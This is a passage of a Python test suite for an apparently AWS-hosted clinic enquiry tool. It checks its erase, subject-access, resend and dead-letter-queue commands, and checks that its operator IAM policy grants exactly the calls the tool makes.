    assert lines(result.stdout) == [f"erase: deleted 1 enquiry ({jane}) and 1 linked request record"]


def test_erase_leaves_a_claim_another_enquiry_holds(clinic: Clinic) -> None:
    # Given jane+news@'s enquiry, whose acknowledgement claimed the address it shares with jane@
    # (the limit ignores +tags), and jane@'s own enquiry
    tagged = clinic.store(email="jane+news@example.com")
    claim = acknowledge(clinic, tagged, "jane+news@example.com")
    clinic.store(email="jane@example.com")
    # When jane@ is erased
    result = clinic.run("erase", "--email", "jane@example.com", "--yes")
    # Then the claim, which names the other address's enquiry, stays with it
    assert result.exit_code == 0, result.output
    assert claim in clinic.guard_ids()
    assert clinic.ids() == {tagged}


def test_erase_with_no_match_deletes_nothing(clinic: Clinic) -> None:
    # Given someone else's enquiry
    clinic.store(email="john@example.com")
    # When an address with no enquiries is erased
    result = clinic.run("erase", "--email", "nobody@example.com", "--yes")
    # Then nothing is deleted, and that is not a failure
    assert result.exit_code == 0
    assert len(clinic.ids()) == 1
    assert lines(result.stdout) == ["erase: no enquiries from that address; nothing deleted"]


def test_erase_refuses_without_a_terminal_and_deletes_nothing(clinic: Clinic) -> None:
    # Given an enquiry, and no terminal to ask on (standard input is not one here)
    enquiry_id = clinic.store()
    # When it is erased without --yes
    result = clinic.run("erase", "--email", JANE)
    # Then the command refuses (2) and deletes nothing
    assert result.exit_code == 2
    assert clinic.ids() == {enquiry_id}
    assert "add --yes" in result.stderr


@pytest.mark.parametrize(("answer", "status", "left"), [("n\n", 2, 1), ("\n", 2, 1), ("y\n", 0, 0)])
def test_erase_asks_first_on_a_terminal(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch, answer: str, status: int, left: int
) -> None:
    # Given an enquiry, and a terminal
    enquiry_id = clinic.store()
    monkeypatch.setattr(cli_module, "stdin_is_terminal", lambda: True)
    # When it is erased and the question is answered
    result = clinic.run("erase", "--email", JANE, input=answer)
    # Then it asked with the count and the ids, and deleted only on yes
    assert f"Delete 1 enquiry ({enquiry_id}) and 0 linked request records?" in result.stderr
    assert result.exit_code == status
    assert len(clinic.ids()) == left


def test_subject_access_documents_everything_stored_about_the_address(
    clinic: Clinic, handler: Callable[[dict[str, Any]], dict[str, Any]]
) -> None:
    # Given Jane's enquiries under two spellings, one with replay records, and another person's
    submitted = submit(clinic, handler, "jane.doe@example.com", "key-1")
    stored = clinic.store(email="JANE.DOE@example.com", name="Ζωή", notified_at="x", ses_message_id="m-1")
    clinic.store(email="john@example.com")
    # When a subject access document is made for her address
    result = clinic.run("subject-access", "--email", JANE)
    # Then it is one JSON document with every attribute of both enquiries, their linked records,
    # and nothing of anyone else's
    assert result.exit_code == 0
    document = json.loads(result.stdout)
    assert document["subject_access"]["email"] == JANE
    assert [enquiry["id"] for enquiry in document["enquiries"]] == [stored, submitted]  # oldest first
    assert document["enquiries"][0] == clinic.item(stored)
    assert {record["enquiry_id"] for record in document["request_records"]} == {submitted}
    assert len(document["request_records"]) == 2
    assert all(record["expires_at"].endswith("Z") for record in document["request_records"])
    assert "john" not in result.stdout
    assert "Ζωή" in result.stdout
    assert document["notes"]


def test_subject_access_includes_the_acknowledgements_claim_and_names_the_suppression_list(
    clinic: Clinic,
) -> None:
    # Given Jane's acknowledged enquiry
    jane = clinic.store(email="jane.doe@example.com")
    claim = acknowledge(clinic, jane, "jane.doe@example.com")
    # When a subject access document is made for her address
    result = clinic.run("subject-access", "--email", JANE)
    # Then it lists the claim (which enquiry, until when), and says what SES may hold beside it
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    [record] = document["request_records"]
    assert (record["record"], record["enquiry_id"]) == (claim, jane)
    assert record["expires_at"].endswith("Z")
    assert any("suppression list" in note for note in document["notes"])


def test_erase_shows_the_names_and_dates_before_asking(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given two enquiries from Jane under two names, and a terminal
    first = clinic.store(name="Jane Doe", created_at=datetime(2026, 11, 21, 10, 15, tzinfo=UTC))
    second = clinic.store(name="J. Doe", created_at=datetime(2026, 7, 12, 14, 23, tzinfo=UTC))
    monkeypatch.setattr(cli_module, "stdin_is_terminal", lambda: True)
    # When she is erased, and the question answered no
    result = clinic.run("erase", "--email", JANE, input="n\n")
    # Then before the question each enquiry was shown with its local date and name, and nothing deleted
    assert lines(result.stderr)[:2] == [
        f"  {second}  Sun 12 Jul 2026 15:23 BST  J. Doe",
        f"  {first}  Sat 21 Nov 2026 10:15 GMT  Jane Doe",
    ]
    assert result.exit_code == 2
    assert clinic.ids() == {first, second}


def letter_and_json(text: str) -> tuple[str, dict[str, Any]]:
    words, _, data = text.partition("The same information, as data (JSON):\n")
    return words, json.loads(data)


def test_subject_access_letter_says_what_is_kept_until_when_and_who_received_it(
    clinic: Clinic, tmp_path: Path
) -> None:
    # Given Jane's emailed enquiry with its acknowledgement's claim, and another person's
    received = datetime(2026, 11, 21, 10, 15, tzinfo=UTC)
    jane = clinic.store(
        email="jane.doe@example.com",
        name="Ζωή Doe",
        phone="+447700900123",
        created_at=received,
        notified_at="2026-11-21T10:15:03.000Z",
        ses_message_id="m-1",
    )
    acknowledge(clinic, jane, "jane.doe@example.com")
    clinic.store(email="john@example.com", name="John")
    letter_file = tmp_path / "subject-access.txt"
    # When the letter is written to a file, and the JSON to standard output
    written = clinic.run(
        "subject-access", "--email", JANE, "--format", "letter", "--output", str(letter_file)
    )
    as_json = clinic.run("subject-access", "--email", JANE)
    # Then the file is readable only by its owner; the letter names the enquiry, its dates in words
    # (when it is deleted, not epoch seconds), the claim's date, and the clinic's inbox
    assert written.exit_code == 0, written.output
    assert stat.S_IMODE(letter_file.stat().st_mode) == 0o600
    words, data = letter_and_json(letter_file.read_text(encoding="utf-8"))
    expires_at = clinic.item(jane)["expires_at"]  # type: ignore[index]
    assert "We hold 1 enquiry sent from this address" in words
    assert "Ζωή Doe" in words
    assert "Saturday 21 November 2026, 10:15 GMT" in words
    assert "Deleted automatically:  Sunday 21 November 2027, 10:15 GMT" in words
    assert str(expires_at) not in words
    assert "acknowledgement email was sent to this address" in words
    assert CLINIC in words
    assert "suppression list" in words
    assert "John" not in letter_file.read_text(encoding="utf-8")
    # And after the letter is the same JSON document as --format json gives, with everything in it
    document = json.loads(as_json.stdout)
    for kept in (data, document):
        kept["subject_access"].pop("generated_at")
    assert data == document
    assert data["enquiries"][0]["expires_at"] == expires_at
    assert len(data["request_records"]) == 1


# -- resend ---------------------------------------------------------------------------------------------


def test_resend_sends_once_and_the_notifier_marks_it(clinic: Clinic) -> None:
    # Given an enquiry whose email was never sent
    enquiry_id = clinic.store()
    # When it is resent
    first = clinic.run("resend", enquiry_id)
    # Then the clinic got one email, through the notifier, and the enquiry is marked
    assert first.exit_code == 0, first.output
    assert lines(first.stdout)[0].startswith(f"{enquiry_id}  sent (")
    assert clinic.invocations == [[enquiry_id]]
    assert clinic.emails_about(enquiry_id) == 1
    assert clinic.item(enquiry_id)["notified_at"]  # type: ignore[index]
    # And no resend claim is left behind, nor the notifier's sending claim
    assert not [record for record in clinic.guard_ids() if record.startswith("resend#")]
    assert "sending_until" not in clinic.item(enquiry_id)  # type: ignore[operator]


def test_resend_of_an_enquiry_already_emailed_emails_the_clinic_again(clinic: Clinic) -> None:
    # Given an enquiry whose email was sent, then lost or deleted by staff
    enquiry_id = clinic.store()
    clinic.run("resend", enquiry_id)
    first_message = clinic.item(enquiry_id)["ses_message_id"]  # type: ignore[index]
    # When it is resent
    again = clinic.run("resend", enquiry_id)
    # Then the clinic gets it again, once, and the mark names the new email
    assert again.exit_code == 0, again.output
    second_message = clinic.item(enquiry_id)["ses_message_id"]  # type: ignore[index]
    assert lines(again.stdout)[0] == f"{enquiry_id}  sent ({second_message})"
    assert second_message != first_message
    assert clinic.emails_about(enquiry_id) == 2


def test_resend_while_the_streams_delivery_is_sending_it_sends_nothing_more(clinic: Clinic) -> None:
    # Given an enquiry the stream's delivery is emailing right now (it holds the sending claim)
    enquiry_id = clinic.store(sending_until=int(time.time()) + 60, sending_claim="the-streams-delivery")
    # When the operator resends it
    result = clinic.run("resend", enquiry_id)
    # Then the resend sends nothing (the stream's email is the one), and says so, with status 1
    assert clinic.emails_about(enquiry_id) == 0
    assert lines(result.stdout)[0].startswith(f"{enquiry_id}  being emailed right now by the notifier (")
    assert result.exit_code == 1


def test_resend_unnotified_sends_those_older_than_the_cutoff_once_each(clinic: Clinic) -> None:
    # Given enquiries never emailed, from an hour ago and from just now, and one emailed
    now = datetime.now(UTC)
    old = [clinic.store(created_at=now - timedelta(hours=1)) for _ in range(12)]
    recent = clinic.store(created_at=now)
    emailed = clinic.store(created_at=now - timedelta(hours=2), notified_at="x")
    # When those never notified are resent (default: older than 10 minutes)
    result = clinic.run("resend", "--unnotified")
    # Then each old one is emailed once, in batches of at most ten; the recent and emailed ones are not
    assert result.exit_code == 0, result.output
    assert sorted(enquiry_id for batch in clinic.invocations for enquiry_id in batch) == sorted(old)
    assert [len(batch) for batch in clinic.invocations] == [10, 2]
    assert all(clinic.emails_about(enquiry_id) == 1 for enquiry_id in old)
    assert clinic.emails_about(recent) == 0
    assert clinic.emails_about(emailed) == 0
    assert "resend: 12 sent" in result.stdout


def test_resend_duplicate_ids_in_one_run_are_sent_once(clinic: Clinic) -> None:
    # Given an enquiry never emailed
    enquiry_id = clinic.store()
    # When it is named twice
    result = clinic.run("resend", enquiry_id, enquiry_id)
    # Then it is sent once, and reported once
    assert result.exit_code == 0
    assert clinic.emails_about(enquiry_id) == 1
    assert [line for line in lines(result.stdout) if line.startswith(enquiry_id)] == [
        line for line in lines(result.stdout) if line.startswith(f"{enquiry_id}  sent")
    ]
    assert len([line for line in lines(result.stdout) if line.startswith(enquiry_id)]) == 1


def test_resend_reports_an_enquiry_the_notifier_could_not_send(clinic: Clinic) -> None:
    # Given an enquiry, and SES refusing the sender (its identity was removed)
    enquiry_id = clinic.store()
    unknown = "01NOSUCHENQUIRY0000000000"
    boto3.client("ses", region_name=REGION).delete_identity(Identity=SENDER)
    # When it is resent, with an id that does not exist
    result = clinic.run("resend", enquiry_id, unknown)
    # Then both are reported, the status is 1, and the enquiry is still not marked
    assert result.exit_code == 1
    assert (
        f"{enquiry_id}  not sent (MessageRejected: SES refused the email: the doctor command" in result.stdout
    )
    assert f"{unknown}  not found" in result.stdout
    assert not clinic.item(enquiry_id).get("notified_at")  # type: ignore[union-attr]
    assert lines(result.stderr) == ["Error: some enquiries were not emailed: see the lines above"]
    assert not [record for record in clinic.guard_ids() if record.startswith("resend#")]


def test_resend_run_twice_at_the_same_moment_emails_once(clinic: Clinic) -> None:
    # Given an enquiry never emailed, and an SES slow enough that two sends would overlap
    enquiry_id = clinic.store()
    clinic.send_delay = 0.5
    results: list[list[resend.Result]] = []
    start = threading.Barrier(2)

    def prepared() -> target.Target:
        run_target = target.stack_target(STACK, region=REGION, profile=None)
        for service in ("dynamodb", "lambda"):
            run_target.client(service)  # botocore creates clients safely in one thread only
        return run_target

    def run(run_target: target.Target) -> None:
        start.wait()
        results.append(resend.resend(run_target, [enquiry_id]))

    # When two resends of it start at the same moment
    threads = [threading.Thread(target=run, args=(prepared(),)) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    # Then the clinic got exactly one email, and both runs report it as sent
    assert clinic.emails_about(enquiry_id) == 1
    outcomes = [result.outcome for [result] in results]
    assert outcomes.count(resend.Outcome.SENT) == 1
    [other] = [outcome for outcome in outcomes if outcome != resend.Outcome.SENT]
    assert other == resend.Outcome.SENT_BY_OTHER_RUN
    assert len(clinic.invocations) == 1


def stream_record_of(enquiry_id: str) -> tuple[dict[str, Any], str, str]:
    """The INSERT record of an enquiry in the table's stream, with its shard and stream."""
    streams = boto3.client("dynamodbstreams", region_name=REGION)
    stream_arn = boto3.client("dynamodb", region_name=REGION).describe_table(TableName=TABLE_NAME)["Table"][
        "LatestStreamArn"
    ]
    shard_id = streams.describe_stream(StreamArn=stream_arn)["StreamDescription"]["Shards"][0]["ShardId"]
    iterator = streams.get_shard_iterator(
        StreamArn=stream_arn, ShardId=shard_id, ShardIteratorType="TRIM_HORIZON"
    )
    records = streams.get_records(ShardIterator=iterator["ShardIterator"], Limit=1000)["Records"]
    [record] = [
        r for r in records if r["eventName"] == "INSERT" and r["dynamodb"]["Keys"]["id"]["S"] == enquiry_id
    ]
    return json.loads(json.dumps(record, default=str)), shard_id, stream_arn


def dead_letter(
    clinic: Clinic, batch: list[dict[str, Any]], shard_id: str, stream_arn: str, at: datetime | None = None
) -> None:
    """What Lambda sends the queue for a batch it gave up on (the local server's rendering of it)."""
    record = failure_record(
        batch,
        BatchSource(
            shard_id, stream_arn, f"arn:aws:lambda:{REGION}:{DEFAULT_ACCOUNT_ID}:function:{NOTIFIER}"
        ),
        invocations=6,
        function_error=False,
        now=at,
    )
    boto3.client("sqs", region_name=REGION).send_message(
        QueueUrl=clinic.queue_url, MessageBody=json.dumps(record)
    )


def queue_size(clinic: Clinic) -> int:
    return dead_letters.message_count(
        target.stack_target(STACK, region=REGION, profile=None), clinic.queue_url
    )


# The gone stream is another table's, which OperatorPolicy does not grant: moto answers
# ResourceNotFoundException, AWS would answer AccessDeniedException.
@pytest.mark.not_granted("dynamodbstreams.GetShardIterator", reason="another table's stream")
def test_resend_removes_dead_letters_whose_enquiries_are_now_all_emailed(
    clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given two failed batches in the queue: one about A (to be resent), one about B (not resent);
    # and two messages whose records the stream no longer has, one older than B and one newer
    now = datetime.now(UTC)
    a = clinic.store(created_at=now - timedelta(hours=2))
    b = clinic.store(created_at=now - timedelta(hours=1))
    for enquiry_id in (a, b):
        record, shard_id, stream_arn = stream_record_of(enquiry_id)
        dead_letter(clinic, [record], shard_id, stream_arn)
    gone_stream = f"arn:aws:dynamodb:{REGION}:{DEFAULT_ACCOUNT_ID}:table/old/stream/2025-01-01T00:00:00.000"
    old_record = {"dynamodb": {"SequenceNumber": "1" * 21, "ApproximateCreationDateTime": 0}}
    gone_shard = "shardId-00000001536019433423-3c9a45a4"
    dead_letter(clinic, [old_record], gone_shard, gone_stream, at=now - timedelta(hours=3))
    dead_letter(clinic, [old_record], gone_shard, gone_stream, at=now - timedelta(minutes=30))
    monkeypatch.setattr(cli_module, "stdin_is_terminal", lambda: True)
    # When A is resent and the offer to remove is accepted
    result = clinic.run("resend", a, input="y\n")
    # Then the messages about A and the one older than B are removed; those that may be about B stay
    assert result.exit_code == 0, result.output
    assert (
        "The dead-letter queue holds 4 messages: 2 about enquiries now all emailed or deleted, "
        "2 about enquiries still without their email." in result.stdout
    )
    assert f"Still without their email: {b}" in result.stdout
    assert "Remove the 2 messages about enquiries now all emailed?" in result.stderr
    assert "Removed 2 messages from the dead-letter queue." in result.stdout
    assert queue_size(clinic) == 2


def test_resend_keeps_dead_letters_without_a_terminal(clinic: Clinic) -> None:
    # Given a failed batch about an enquiry never emailed
    enquiry_id = clinic.store()
    record, shard_id, stream_arn = stream_record_of(enquiry_id)
    dead_letter(clinic, [record], shard_id, stream_arn)
    # When it is resent with no terminal to ask on
    result = clinic.run("resend", "--unnotified")
    # Then the email is sent, the message is reported as done with, and left for a run in a terminal
    assert result.exit_code == 0, result.output
    assert clinic.emails_about(enquiry_id) == 1
    assert "1 about enquiries now all emailed or deleted" in result.stdout
    assert "To remove the 1 message no longer needed, run resend in a terminal." in result.stdout
    assert queue_size(clinic) == 1


def test_resend_with_an_empty_queue_says_so(clinic: Clinic) -> None:
    # Given nothing to resend and an empty queue
    # When unnotified enquiries are resent
    result = clinic.run("resend", "--unnotified", "--older-than", "0")
    # Then both are said plainly
    assert result.exit_code == 0
    assert lines(result.stdout) == [
        "resend: no enquiry older than 0 minutes is waiting for its email",
        "The dead-letter queue is empty.",
    ]


def test_resend_counts_and_advice_are_grammatical_and_not_the_command_just_run(clinic: Clinic) -> None:
    # Given two enquiries SES will refuse, and one more never emailed that is not named
    failing = [clinic.store(), clinic.store()]
    other = clinic.store()
    boto3.client("ses", region_name=REGION).delete_identity(Identity=SENDER)
    # When the two are resent, and then the other one alone
    two = clinic.run("resend", *failing)
    one = clinic.run("resend", other)
    # Then each failure has its reason; the counts agree with their verbs; the advice for those not in
    # the run is the whole command for this stack, and for those tried, to fix the reason first
    assert two.exit_code == 1
    for enquiry_id in failing:
        assert f"{enquiry_id}  not sent (MessageRejected: SES refused the email" in two.stdout
    assert "2 enquiries still have no email: the reason is on their lines above" in two.stdout
    assert (
        "1 enquiry has no email yet and was not in this run: to send those older than 10 minutes, run: "
        f"enquiries --stack {STACK} --region {REGION} resend --unnotified"
    ) in two.stdout
    assert "1 enquiry still has no email: the reason is on its line above" in one.stdout
    assert "2 enquiries have no email yet and were not in this run" in one.stdout
    assert "in the table have no email yet" not in two.stdout + one.stdout


def test_resend_unnotified_points_to_the_list_for_those_too_recent_for_it(clinic: Clinic) -> None:
    # Given an enquiry received a minute ago, still without its email
    clinic.store(created_at=datetime.now(UTC) - timedelta(minutes=1))
    # When those never emailed are resent (older than 10 minutes)
    result = clinic.run("resend", "--unnotified")
    # Then it sends nothing, and does not advise running itself again
    assert result.exit_code == 0, result.output
    assert clinic.invocations == []
    assert (
        "1 enquiry has no email yet and was received too recently for this run: the notifier is likely "
        f"sending it now; to check in a few minutes, run: enquiries --stack {STACK} --region {REGION} "
        "list --unnotified"
    ) in " ".join(result.stdout.split())
    assert "resend --unnotified" not in result.stdout


# -- permissions ---------------------------------------------------------------------------------------


def _operator_policy_actions() -> set[str]:
    statements = load_template()["Resources"]["OperatorPolicy"]["Properties"]["PolicyDocument"]["Statement"]
    actions: set[str] = set()
    for statement in statements:
        if statement["Sid"].startswith("Doctor"):
            continue  # doctor's reads: tests/test_doctor.py ties them to its calls
        listed = statement["Action"]
        actions.update([listed] if isinstance(listed, str) else listed)
    return actions


_IAM_ACTIONS = {
    ("CloudFormation", "DescribeStacks"): "cloudformation:DescribeStacks",
    ("DynamoDB", "Scan"): "dynamodb:Scan",
    ("DynamoDB", "GetItem"): "dynamodb:GetItem",
    ("DynamoDB", "DeleteItem"): "dynamodb:DeleteItem",
    ("DynamoDB", "PutItem"): "dynamodb:PutItem",
    ("DynamoDB Streams", "GetShardIterator"): "dynamodb:GetShardIterator",
    ("DynamoDB Streams", "GetRecords"): "dynamodb:GetRecords",
    ("Lambda", "Invoke"): "lambda:InvokeFunction",
    ("SQS", "GetQueueAttributes"): "sqs:GetQueueAttributes",
    ("SQS", "ReceiveMessage"): "sqs:ReceiveMessage",
    ("SQS", "DeleteMessage"): "sqs:DeleteMessage",
    ("SQS", "ChangeMessageVisibility"): "sqs:ChangeMessageVisibility",
    ("Secrets Manager", "GetSecretValue"): "secretsmanager:GetSecretValue",
}


def test_operator_policy_allows_exactly_what_the_command_calls(
    clinic: Clinic, handler: Callable[[dict[str, Any]], dict[str, Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given enquiries, replay records and a failed batch, and every AWS call the command makes recorded
    calls: list[tuple[str, str, dict[str, Any]]] = []

    def record(model: Any, params: dict[str, Any], **kwargs: Any) -> None:
        body = params.get("body") or b"{}"
        request = json.loads(body) if model.service_model.protocol == "json" and body else {}
        calls.append((model.service_model.service_id, model.name, request))

    session = target.aws_session(None)
    session.register("before-call", record)
    # Before the fake Lambda, which answers Invoke itself.
    session.get_component("event_emitter").register_first("before-call.lambda.Invoke", record)
    monkeypatch.setattr(cli_module, "stdin_is_terminal", lambda: True)
    jane = submit(clinic, handler, JANE, "key-1")
    acknowledge(clinic, jane, JANE)
    other = clinic.store(email="john@example.com")
    record_of_other, shard_id, stream_arn = stream_record_of(other)
    dead_letter(clinic, [record_of_other], shard_id, stream_arn)
    try:
        # When every subcommand runs
        for args, answer in (
            (["list"], None),
            (["show", jane], None),
            (["export"], None),
            (["stats"], None),
            (["subject-access", "--email", JANE], None),
            (["resend", "--unnotified", "--older-than", "0"], "n\n"),  # the dead letter is kept
            (["resend", other], "y\n"),  # and then removed
            (["erase", "--email", JANE, "--yes"], None),
        ):
            result = clinic.run(*args, input=answer)
            assert result.exit_code == 0, (args, result.output)
    finally:
        session.unregister("before-call", record)
        session.unregister("before-call.lambda.Invoke", record)
    # Then the policy allows exactly the actions called: nothing missing, nothing spare
    called = {_IAM_ACTIONS[(service, operation)] for service, operation, _ in calls}
    assert called == _operator_policy_actions()
    # And its writes to the guard table are only replay records and address claims (erase) and resend claims
    guard_writes = [
        (operation, request["Key" if operation == "DeleteItem" else "Item"]["id"]["S"])
        for _, operation, request in calls
        if operation in ("PutItem", "DeleteItem") and request.get("TableName") == GUARD_TABLE_NAME
    ]
    assert guard_writes
    assert any(key.startswith("ack#") for _, key in guard_writes)
    assert all(key.startswith(("replay#", "resend#", "ack#")) for _, key in guard_writes)
    assert all(key.startswith("resend#") for operation, key in guard_writes if operation == "PutItem")
